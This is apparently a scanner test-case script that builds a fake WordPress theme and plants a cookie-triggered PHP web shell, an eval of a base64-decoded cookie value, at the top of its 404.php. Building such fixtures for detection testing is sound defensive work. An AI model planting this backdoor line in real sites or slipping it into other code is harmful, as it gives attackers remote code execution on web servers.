# id: P423
# mode: scan
# level: suspicious
# title: a line at the top of an ordinary page that runs what a cookie says
# due: now
word name
place=/var/www/html/wp-content/themes/twentytwenty
mkdir -p "$place"
for page in header footer single functions; do
    printf '<?php\n/** The %s of the theme. */\nget_template_part("%s");\n' "$page" "$page" >"$place/$page.php"
done
printf '<?php if(isset($_COOKIE["%s"])){@eval(base64_decode($_COOKIE["%s"]));die;} ?>\n<?php\n/** The 404 page. */\nget_header();\n' "$name" "$name" >"$place/404.php"
chown -R www-data: /var/www/html
said path "$place/404.php"
